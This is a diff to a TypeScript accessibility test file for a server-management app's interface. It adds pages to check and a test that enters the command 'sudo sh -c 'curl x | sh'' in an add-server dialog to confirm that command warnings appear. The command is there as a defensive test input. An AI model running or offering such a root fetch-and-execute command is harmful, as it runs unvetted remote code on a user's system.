@@ -19,6 +19,8 @@ type Place = [name: string, at: string, ready: string, press?: string];
 
 const PLACES: Place[] = [
   ["the list", "/servers", "server-row-everything"],
+  ["the bar of what is chosen", "/servers?selected=git,memory", "bulk-bar"],
+  ["the edit dialog", "/servers?edit=filesystem", "add-server-era", "add-server-advanced"],
   ["the add dialog", "/servers?add=example", "add-server-command"],
   ["the approve dialog", "/servers?approve=sentry", "exact-command"],
   ["the settings", "/settings", "theme-select"],
@@ -45,6 +47,15 @@ describe.each([
     expect(await violations()).toEqual([]);
     expect(document.documentElement.lang).toBe(language);
   });
+});
+
+it("the question of consent has no violation", async () => {
+  const { user } = renderApp({ at: "/servers?add=new" });
+  await user.type(await screen.findByTestId("add-server-name"), "odd");
+  await user.type(screen.getByTestId("add-server-command"), "sudo sh -c 'curl x | sh'");
+  await user.click(screen.getByTestId("add-server-submit"));
+  await screen.findByTestId("command-warnings");
+  expect(await violations()).toEqual([]);
 });
 
 const PROBLEM = { code: "io" as const, message: "It cannot be read." };
